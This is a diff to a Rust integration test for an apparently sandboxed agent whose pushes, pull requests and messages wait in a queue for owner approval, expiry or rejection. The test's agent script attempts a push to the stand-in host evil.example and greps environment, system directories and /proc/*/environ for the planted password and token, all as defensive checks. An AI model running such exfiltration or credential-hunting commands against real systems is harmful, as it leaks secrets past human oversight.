@@ -6,10 +6,11 @@
 use std::os::unix::fs::PermissionsExt;
 use std::path::Path;
 
-use tests::loopback::{GitHttpServer, NotifyServer};
+use tests::loopback::{ForgeServer, GitHttpServer, NotifyServer};
 use tests::{git, image, make_repo, only_run, stderr, stdout, State};
 
 const PASSWORD: &str = "s3cret-door-password-5e1f";
+const TOKEN: &str = "forge-token-9a8b7c";
 
 struct Morning {
     state: State,
@@ -19,6 +20,7 @@ struct Morning {
     git_server: GitHttpServer,
     notify: NotifyServer,
     public_log: NotifyServer,
+    forge: ForgeServer,
     key: std::path::PathBuf,
 }
 
@@ -34,21 +36,28 @@ fn setup() -> Morning {
     let git_server = GitHttpServer::start(&bare, "nightshift", PASSWORD);
     let notify = NotifyServer::start();
     let public_log = NotifyServer::start();
+    let forge = ForgeServer::start(TOKEN);
     let secrets = state.path().join("secrets");
     std::fs::create_dir(&secrets).unwrap();
     let pw = secrets.join("origin.password");
     std::fs::write(&pw, PASSWORD).unwrap();
     std::fs::set_permissions(&pw, std::fs::Permissions::from_mode(0o600)).unwrap();
+    let token = secrets.join("forge.token");
+    std::fs::write(&token, TOKEN).unwrap();
+    std::fs::set_permissions(&token, std::fs::Permissions::from_mode(0o600)).unwrap();
     std::fs::write(
         state.path().join("destinations.toml"),
         format!(
             "[remotes.origin]\nurl = \"{}\"\nreaders = \"private\"\nusername = \"nightshift\"\npassword_file = \"{}\"\n\n\
              [notify.team]\nurl = \"{}\"\nreaders = \"private\"\n\n\
-             [notify.public-log]\nurl = \"{}\"\nreaders = \"public\"\n",
+             [notify.public-log]\nurl = \"{}\"\nreaders = \"public\"\n\n\
+             [forges.forge]\napi = \"{}\"\nrepo = \"owner/name\"\ntoken_file = \"{}\"\nreaders = \"private\"\n",
             git_server.url(),
             pw.display(),
             notify.url(),
-            public_log.url()
+            public_log.url(),
+            forge.url(),
+            token.display()
         ),
     )
     .unwrap();
@@ -62,6 +71,7 @@ fn setup() -> Morning {
         git_server,
         notify,
         public_log,
+        forge,
         key,
     }
 }
@@ -120,6 +130,13 @@ fn remote_ref(bare: &Path, r: &str) -> Option<String> {
 #[test]
 fn night_to_morning() {
     let m = setup();
+    // Acts wait 40 s for a person: long enough to decide some, short enough
+    // to watch one expire.
+    std::fs::write(
+        m.state.path().join("config.toml"),
+        "[queue]\npending_ttl = \"40s\"\n",
+    )
+    .unwrap();
     let log = run_agent(
         &m,
         &format!(
@@ -127,6 +144,12 @@ fn night_to_morning() {
 echo "work" > work.txt && git add work.txt && git commit -qm "agent: work"
 echo "commit=$(git rev-parse HEAD)"
 git push origin HEAD:refs/heads/agent/work 2>&1; echo "push=$?"
+git checkout -q -b agent/second && echo two > two.txt && git add two.txt && git commit -qm two
+git push origin agent/second:refs/heads/agent/second 2>&1; echo "push2=$?"
+git checkout -q nightshift/run/$NIGHTSHIFT_RUN_ID
+git branch -f agent/work HEAD
+echo "Adds work.txt." > pr.txt
+nightshift-act pr --remote forge --base main --head agent/work --title "Add work" --body-file pr.txt; echo "pr=$?"
 echo "the build is green" > msg.txt
 nightshift-act notify team --file msg.txt; echo "notify=$?"
 nightshift-act notify public-log --file msg.txt; echo "public=$?"
@@ -134,9 +157,9 @@ nightshift-act push https://evil.example/x.git main; echo "url=$?"
 nightshift-act push /srv/other.git main; echo "path=$?"
 echo "should the parser be rewritten?" > q.txt
 nightshift-act ask --file q.txt; echo "ask=$?"
-if env | grep -q {PASSWORD}; then echo "env-secret=present"; else echo "env-secret=absent"; fi
-if grep -rqs {PASSWORD} /run/nightshift /workspace /home /tmp /etc; then echo "file-secret=present"; else echo "file-secret=absent"; fi
-if cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -q {PASSWORD}; then echo "proc-secret=present"; else echo "proc-secret=absent"; fi
+if env | grep -q -e {PASSWORD} -e {TOKEN}; then echo "env-secret=present"; else echo "env-secret=absent"; fi
+if grep -rqs -e {PASSWORD} -e {TOKEN} /run/nightshift /workspace /home /tmp /etc; then echo "file-secret=present"; else echo "file-secret=absent"; fi
+if cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -q -e {PASSWORD} -e {TOKEN}; then echo "proc-secret=present"; else echo "proc-secret=absent"; fi
 "#
         ),
     );
@@ -147,7 +170,9 @@ if cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -q {PASSWORD}; then ech
             .to_string()
     };
     assert_eq!(get("push"), "0", "{log}");
+    assert_eq!(get("push2"), "0", "{log}");
     assert!(log.contains("queued as act"), "{log}");
+    assert_eq!(get("pr"), "0", "{log}");
     assert_eq!(get("notify"), "0", "{log}");
     assert_eq!(
         get("public"),
@@ -169,65 +194,113 @@ if cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -q {PASSWORD}; then ech
     assert_eq!(remote_ref(&m.bare, "refs/heads/agent/work"), None);
     assert!(m.notify.requests().is_empty());
     assert!(m.public_log.requests().is_empty());
+    assert!(m.forge.requests().is_empty());
 
-    // Morning: three acts wait.
+    // Morning: five acts wait.
     let q = queue(&m);
-    assert_eq!(q.len(), 3, "{q:?}");
+    assert_eq!(q.len(), 5, "{q:?}");
     assert!(q.iter().all(|a| a["status"] == "pending"));
-    let push = act_of(&q, "push");
+    let pushes: Vec<String> = q
+        .iter()
+        .filter(|a| a["act"]["door"] == "push")
+        .map(|a| a["act"]["id"].as_str().unwrap().to_string())
+        .collect();
+    let (push, push2) = (&pushes[0], &pushes[1]);
+    let pr = act_of(&q, "pull_request");
     let notify = act_of(&q, "notify");
 
     // Approval needs the owner's credential.
-    let out = m.state.run(&["approve", &push]);
+    let out = m.state.run(&["approve", push]);
     assert_eq!(out.status.code(), Some(9), "{}", stderr(&out));
     let wrong = m.state.path().join("wrong.key");
     std::fs::write(&wrong, "not the key").unwrap();
-    let out = m.state.run(&[
-        "approve",
-        &push,
-        "--owner-key-file",
-        wrong.to_str().unwrap(),
-    ]);
+    let out = m
+        .state
+        .run(&["approve", push, "--owner-key-file", wrong.to_str().unwrap()]);
     assert_eq!(out.status.code(), Some(9));
     assert_eq!(remote_ref(&m.bare, "refs/heads/agent/work"), None);
 
+    let key = m.key.to_str().unwrap();
     let out = m.state.run(&[
         "approve",
-        &push,
+        push,
+        pr.as_str(),
+        notify.as_str(),
         "--owner-key-file",
-        m.key.to_str().unwrap(),
+        key,
     ]);
     assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
-    assert!(stdout(&out).contains("done"), "{}", stdout(&out));
+    assert_eq!(
+        stdout(&out).matches(": done").count(),
+        3,
+        "{}",
+        stdout(&out)
+    );
     assert_eq!(
         remote_ref(&m.bare, "refs/heads/agent/work").as_deref(),
         Some(get("commit").as_str())
     );
+    // Exactly one pull request, with the right head, base, title and token.
+    let prs = m.forge.requests();
+    assert_eq!(prs.len(), 1, "{prs:?}");
+    assert_eq!(
+        prs[0].authorization.as_deref(),
+        Some(format!("Bearer {TOKEN}").as_str())
+    );
+    let sent = prs[0].json();
+    assert_eq!(sent["head"], "agent/work");
+    assert_eq!(sent["base"], "main");
+    assert_eq!(sent["title"], "Add work");
+    assert_eq!(sent["body"], "Adds work.txt.\n");
+    // The message went out exactly as the agent wrote it, once.
+    let sent = m.notify.requests();
+    assert_eq!(sent.len(), 1);
+    assert_eq!(sent[0].body, b"the build is green\n");
     // Single use: approving again does nothing more.
-    let out = m.state.run(&[
-        "approve",
-        &push,
-        "--owner-key-file",
-        m.key.to_str().unwrap(),
-    ]);
+    let out = m.state.run(&["approve", push, "--owner-key-file", key]);
     assert!(!out.status.success());
 
     let out = m.state.run(&[
         "reject",
-        &notify,
+        push2,
         "--why",
-        "not now",
+        "not this one",
         "--owner-key-file",
-        m.key.to_str().unwrap(),
+        key,
     ]);
     assert!(out.status.success(), "{}", stderr(&out));
-    assert!(
-        m.notify.requests().is_empty(),
-        "a rejected message was sent"
+    assert_eq!(
+        remote_ref(&m.bare, "refs/heads/agent/second"),
+        None,
+        "a rejected push was carried out"
     );
 
-    // The password never reached the audit or the queue either. (The runs
-    // table holds the agent's command, which names the password to probe for.)
+    // The question is left alone until its window closes: it expires, never proceeds.
+    let created = q
+        .iter()
+        .map(|a| a["act"]["created_at"].as_i64().unwrap())
+        .max()
+        .unwrap();
+    let deadline = std::time::UNIX_EPOCH + std::time::Duration::from_secs((created + 41) as u64);
+    if let Ok(wait) = deadline.duration_since(std::time::SystemTime::now()) {
+        std::thread::sleep(wait);
+    }
+    let q = queue(&m);
+    let status = |id: &str| {
+        q.iter().find(|a| a["act"]["id"] == id).unwrap()["status"]
+            .as_str()
+            .unwrap()
+            .to_string()
+    };
+    assert_eq!(status(&act_of(&q, "ask")), "expired");
+    assert_eq!(status(push), "done");
+    assert_eq!(status(push2), "rejected");
+    let ask = act_of(&q, "ask");
+    let out = m.state.run(&["approve", &ask, "--owner-key-file", key]);
+    assert!(!out.status.success(), "an expired act was approved");
+
+    // The password and token never reached the audit or the queue either.
+    // (The runs table holds the agent's command, which names them to probe for.)
     let db = rusqlite::Connection::open(m.state.path().join("state.db")).unwrap();
     for table in ["audit", "acts", "policy_rows"] {
         let mut stmt = db.prepare(&format!("SELECT * FROM {table}")).unwrap();
@@ -247,14 +320,14 @@ if cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -q {PASSWORD}; then ech
             .unwrap()
             .map(Result::unwrap)
             .collect();
-        assert!(!rows.is_empty() || table == "policy_rows");
         for row in rows {
-            assert!(!row.contains(PASSWORD), "the password is in {table}: {row}");
+            assert!(
+                !row.contains(PASSWORD) && !row.contains(TOKEN),
+                "a secret is in {table}: {row}"
+            );
         }
     }
     assert!(m.state.verify().status.success());
-    let run = &m.state.runs()[0];
-    assert!(run["status"] == "exited 0");
 }
 
 #[test]
